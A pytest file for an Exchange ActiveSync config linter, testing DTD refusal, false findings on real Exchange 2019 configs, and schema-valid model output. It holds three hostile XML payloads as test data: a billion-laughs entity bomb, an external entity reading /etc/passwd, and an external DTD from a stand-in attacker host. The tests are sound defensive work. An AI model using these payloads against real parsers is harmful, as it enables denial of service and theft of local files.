"""Exchange files end to end: hostile XML is refused quickly with its line, the real Exchange 2019
files of the corpus give no false findings, and `easlint model` output fits the schema."""

from __future__ import annotations

import json
import time
from importlib import resources
from pathlib import Path

import jsonschema
import pytest

from linter.cli import main
from linter.policy import Policy
from parsers import vendor
from parsers.detect import detect_vendor
from tests.conftest import CORPUS, REPO, lint_text

EXCHANGE_CORPUS = CORPUS / "exchange"
needs_corpus = pytest.mark.skipif(not EXCHANGE_CORPUS.is_dir(), reason="the shared corpus is not available")

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<configuration><appSettings><add key="MaxHeartbeatInterval" value="&lol9;" /></appSettings></configuration>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>

<!DOCTYPE configuration [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<configuration><appSettings><add key="MaxHeartbeatInterval" value="&passwd;" /></appSettings></configuration>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE configuration SYSTEM "http://attacker.invalid/evil.dtd">
<configuration><appSettings /></configuration>
"""


@pytest.mark.parametrize(("text", "line"), [(BILLION_LAUGHS, 2), (EXTERNAL_ENTITY, 3), (EXTERNAL_DTD, 2)],
                         ids=["billion-laughs", "external-entity", "external-dtd"])
def test_hostile_xml_is_refused_quickly_with_file_and_line(text: str, line: int, policy: Policy) -> None:
    assert detect_vendor(text) == "exchange"
    started = time.monotonic()
    findings = lint_text("exchange", text, policy, "Sync/web.config")
    assert time.monotonic() - started < 5
    assert [(f.rule_id, f.location.file, f.location.line) for f in findings] == [("EAS001", "Sync/web.config", line)]
    assert "DTD" in findings[0].message


def test_malformed_xml_has_line_and_column(policy: Policy) -> None:
    findings = lint_text("exchange", "<configuration>\n  <appSettings>\n    <add key='a' value='b'>\n</configuration>\n",
                         policy, "web.config")
    assert [(f.rule_id, f.location.line, f.location.column) for f in findings] == [("EAS001", 4, 3)]


@needs_corpus
@pytest.mark.parametrize("path", sorted(EXCHANGE_CORPUS.glob("*.config")) if EXCHANGE_CORPUS.is_dir() else [],
                         ids=lambda path: path.name)
def test_corpus_files_give_no_false_findings(path: Path, policy: Policy) -> None:
    text = path.read_text(encoding="utf-8")
    findings = lint_text("exchange", text, policy, path.name)
    if path.name == "CSS-Exchange__E19_BadApplicationHost.config":  # deliberately broken by Microsoft
        assert [(f.rule_id, f.location.line) for f in findings] == [("EAS001", 128)]
    else:
        assert findings == [], [f.message for f in findings]


@needs_corpus
def test_real_back_end_sync_web_config_is_read() -> None:
    path = EXCHANGE_CORPUS / "CSS-Exchange__E19_ExchangeBackEnd-EAS_web.config"
    device = vendor("exchange").parse(path.name, path.read_text(encoding="utf-8"), None)
    assert [(s.key, s.effective, s.location.line, s.problem) for s in device.settings] == [
        ("MinHeartbeatInterval", "60", 156, None), ("MaxHeartbeatInterval", "3540", 158, None),
        ("HeartbeatSampleSize", "200", 163, None), ("HeartbeatAlertThreshold", "540", 168, None)]


@needs_corpus
def test_real_front_end_web_config_is_no_blocking_hop() -> None:
    path = EXCHANGE_CORPUS / "CSS-Exchange__E19_DefaultWebSite-EAS_web.config"
    device = vendor("exchange").parse(path.name, path.read_text(encoding="utf-8"), None)
    assert device.listeners == () and device.settings == ()


def test_model_output_fits_the_schema(capsys: pytest.CaptureFixture[str]) -> None:
    schema = json.loads(resources.files("linter").joinpath("schemas/model.schema.json").read_text())
    examples = REPO / "examples" / "exchange"
    for path in (examples / "Sync" / "web.config", examples / "FrontEnd" / "HttpProxy" / "sync" / "web.config",
                 examples / "device-access-rules.csv"):
        assert main(["model", str(path)]) == 0
        model = json.loads(capsys.readouterr().out)
        jsonschema.validate(model, schema)
        if path.name == "web.config" and path.parent.name == "Sync":
            assert {s["key"]: s["effective"] for s in model["settings"]}["MaxHeartbeatInterval"] == "1800"
